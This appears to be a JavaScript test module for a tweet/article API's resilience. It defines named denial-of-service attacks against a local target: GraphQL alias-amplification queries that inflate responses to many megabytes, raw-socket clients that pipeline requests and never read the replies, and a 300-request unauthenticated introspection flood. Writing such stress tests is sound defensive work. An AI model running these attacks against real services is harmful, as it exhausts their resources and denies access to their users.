// Attacks with small requests for large responses, and with clients that do not read the responses.
import { setTimeout as sleep } from 'node:timers/promises';

const names = (count, text) => Array.from({ length: count }, (_, i) => text(i)).join(' ');

/** The largest article in bytes that 100,000 characters can have in UTF-8 within the body limit. */
async function longArticle(target) {
  const content = '語'.repeat(99_990);
  const { article_id: id } = await target.setUp(target.rest('POST', '/article/create', { title: 'Long', content }));
  await target.begin();
  return id;
}

const aliasedArticle = (id) =>
  `{${names(40, (i) => `a${i}:article(articleId:"${id}"){...C}`)}} fragment C on Article{${names(23, (i) => `c${i}:content`)}}`;

const userFields = 'userName name description location url platformUrl profilePicture coverPicture createdAt';
const nestedLists =
  `{viewer{${names(30, (i) => `t${i}:tweets(first:100){nodes{...T}}`)}}} ` +
  `fragment T on Tweet{id text url platformUrl source lang author{${userFields}}}`;

const size = (target, { bytes }) => target.note(`${(bytes / 1024 / 1024).toFixed(1)} MiB`);

/** Sends a request over its own connection and does not read the response. */
function askAndNeverRead(target, path, { body, method = 'POST', times = 1 }) {
  const headers = Object.entries(target.headers({ headers: { 'content-type': 'application/json' } }));
  const head = [
    `${method} ${path} HTTP/1.1`,
    'host: localhost',
    ...headers.map(([name, value]) => `${name}: ${value}`),
  ];
  const text = `${head.join('\r\n')}\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
  const socket = target.connect(text.repeat(times));
  socket.pause();
  return socket;
}

export const attacks = {
  'answer: 40 articles with 23 aliases of content': async (target) => {
    const id = await longArticle(target);
    size(target, await target.graphql(aliasedArticle(id)));
  },
  'answer: nested lists with 30 aliases': async (target) => {
    size(target, await target.graphql(nestedLists));
  },
  'answer: eight clients that never read, articles': async (target) => {
    const id = await longArticle(target);
    const body = JSON.stringify({ query: aliasedArticle(id) });
    for (let i = 0; i < 8; i++) askAndNeverRead(target, '/graphql', { body });
    await sleep(15_000);
  },
  'answer: eight clients that never read, lists': async (target) => {
    const body = JSON.stringify({ query: nestedLists });
    for (let i = 0; i < 8; i++) askAndNeverRead(target, '/graphql', { body });
    await sleep(15_000);
  },
  'answer: 100 clients that never read, the schema': async (target) => {
    const response = await target.send('GET', '/openapi.json', { key: null, actor: null });
    target.note(`${response.bytes} bytes each`);
    for (let i = 0; i < 100; i++) askAndNeverRead(target, '/openapi.json', { method: 'GET', body: '', times: 20 });
    await sleep(5_000);
  },
  'answer: 40 clients that never read, pipelined searches': async (target) => {
    const path = '/v1/tweet/advanced_search?q=from:grace&count=100';
    for (let i = 0; i < 40; i++) askAndNeverRead(target, path, { method: 'GET', body: '', times: 21 });
    await sleep(10_000);
  },
  'answer: introspection without a key, 300 times': Object.assign(
    (target) => {
      const fields = 'name description type{name kind ofType{name kind ofType{name}}}';
      const query = `{__schema{types{name description fields{${fields} args{${fields}}} inputFields{${fields}}}}}`;
      return target.many(300, 20, (i) => target.graphql(`${query}#${i % 40}`, undefined, { key: null, actor: null }));
    },
    { fresh: true },
  ),
};
